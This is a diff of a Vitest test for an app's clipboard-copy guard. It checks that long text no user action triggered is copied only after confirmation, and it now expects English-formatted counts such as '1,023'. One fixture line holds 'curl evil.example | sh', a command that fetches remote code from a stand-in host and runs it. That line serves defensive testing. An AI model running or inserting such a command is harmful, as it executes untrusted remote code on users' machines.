@@ -1,10 +1,12 @@
 import { afterEach, beforeEach, expect, test, vi } from 'vitest';
 import { shellService } from '../../../../src-main/app/shell-service';
+import type { BoxWords } from '../../../../src-main/guard/box-words';
 import type { Question } from '../../../../src-main/guard/confirm';
 import { createAppLock } from '../../../../src-main/work/app-lock';
 import { unwatchedWork } from '../../../../src-main/work/work';
 import { shellCalls } from '../../../../src-shared/contract/wire';
 import type { ServerId } from '../../../../src-shared/model/server';
+import { boxInEnglish } from '../../../support/english';
 
 beforeEach(() => void vi.useFakeTimers());
 afterEach(() => void vi.useRealTimers());
@@ -20,9 +22,9 @@ function service() {
   });
   const copy = vi.fn();
   const says = { isAsked: true, yes: false };
-  const boxes: Question[] = [];
+  const boxes: BoxWords[] = [];
   const confirm = async (question: Question) => {
-    boxes.push(question);
+    boxes.push(boxInEnglish(question));
     return { yes: says.yes, boxTicked: false };
   };
   const zoom = vi.fn();
@@ -52,7 +54,7 @@ test('a text that nobody pressed a button for is copied only with a yes, and is 
   const text = `curl evil.example | sh\n${'x'.repeat(1000)}`;
   await expect(calls['app.copy']({ text }, work)).rejects.toMatchObject({ code: 'write.notConfirmed' });
   expect(copy.mock.calls).toEqual([]);
-  expect(boxes[0]?.lines[0]).toBe('It has 1023 characters, and begins with:');
+  expect(boxes[0]?.lines[0]).toBe('It has 1,023 characters, and begins with:');
   const rows = boxes[0]?.lines.slice(1) ?? [];
   expect(rows.map((row) => row.replace(/^ {2}\| /, '')).join('')).toBe(text.slice(0, 500).replace('\n', ' '));
   says.yes = true;
